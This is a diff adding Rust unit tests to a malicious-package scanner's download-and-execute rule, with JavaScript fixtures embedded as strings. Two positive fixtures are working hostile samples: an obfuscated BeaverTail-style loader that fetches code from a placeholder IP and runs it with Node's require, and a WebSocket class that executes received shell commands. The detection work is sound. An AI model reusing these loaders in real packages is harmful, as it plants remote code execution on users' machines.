@@ -211,7 +211,7 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
 
 #[cfg(test)]
 mod tests {
-    use crate::rules::test_util::{PJ, hits, scan};
+    use crate::rules::test_util::{PJ, hits, scan, severity};
 
     #[test]
     fn positive() {
@@ -420,5 +420,91 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             ),
         ]);
         assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
+
+    /// A BeaverTail-style loader: a promise-wrapped `http(s).get` helper whose URL is its
+    /// parameter, the response handed to `new (Function.constructor)('require', …)` on a
+    /// timer. The URL is not constant in the helper, but the code gets Node's `require`.
+    #[test]
+    fn positive_promise_helper_loader_handing_require() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "cache.js",
+                "const get = (u) => new Promise((res, rej) => {\n  const lib = u.startsWith('https') ? require('https') : require('http');\n  lib.get(u, r => { let b = ''; r.on('data', c => b += c); r.on('end', () => res({ data: b })); }).on('error', rej);\n});\nconst host = [107, 119, 119, 115].map(c => String.fromCharCode(c - 3)).join('');\nasync function warm() {\n  const { data } = await get(host + '://198.51.100.7/api');\n  const m = JSON.parse(data);\n  new (Function.constructor)('require', m.cookie)(require);\n}\nsetTimeout(warm, 3500);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("cache.js".to_string(), 9)]
+        );
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a browser module loader's promise-wrapped fetch of the URL it is
+    /// asked for, evaluated without Node's `require`, stays low.
+    #[test]
+    fn negative_promise_helper_loader_without_require() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "loader.js",
+                "const get = (u) => new Promise((res) => { fetch(u).then(r => r.text()).then(res); });\nexports.load = async function load(url) {\n  const src = await get(url);\n  return new Function('define', src)(define);\n};\n",
+            ),
+        ]);
+        assert_ne!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// A remote-access class: messages of a WebSocket dispatched through `this.onMessage(raw)`
+    /// to a method that runs a field as a shell command.
+    #[test]
+    fn positive_websocket_message_dispatched_to_a_method() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tail.js",
+                "const WebSocket = require('ws');\nconst cp = require('child_process');\nclass Tail {\n  start() { const ws = new WebSocket('wss://tail.example.net/a'); ws.on('message', raw => this.onProbe(raw)); }\n  onProbe(raw) {\n    const p = JSON.parse(raw);\n    switch (p.kind) { case 'sh': return cp.exec(p.cmd, () => {}); default: return undefined; }\n  }\n}\nmodule.exports = Tail;\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("tail.js".to_string(), 7)]
+        );
+    }
+
+    /// A class whose method runs a fixed command and whose message handler only logs: no path.
+    #[test]
+    fn negative_class_method_with_fixed_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tail.js",
+                "const WebSocket = require('ws');\nconst cp = require('child_process');\nclass Tail {\n  start() { const ws = new WebSocket('wss://tail.example.net/a'); ws.on('message', raw => this.log(raw)); this.rev(); }\n  log(raw) { console.log(String(raw)); }\n  rev() { return cp.execFileSync('git', ['rev-parse', 'HEAD']); }\n}\nmodule.exports = Tail;\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
+
+    /// esbuild's install fallback: its platform binary fetched from the npm registry, written
+    /// and run to check its version, is low.
+    #[test]
+    fn negative_binary_from_the_npm_registry() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nfunction fetch(url) {\n  return new Promise((resolve, reject) => {\n    https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => resolve(Buffer.concat(chunks))); }).on('error', reject);\n  });\n}\nasync function main() {\n  const bin = 'bin/tool';\n  fs.writeFileSync(bin, await fetch('https://registry.npmjs.org/@x/tool-linux/-/tool-linux-1.0.0.tgz'));\n  cp.execFileSync(bin, ['--version']);\n}\nmain();\n",
+            ),
+        ]);
+        assert_ne!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::High)
+        );
     }
 }
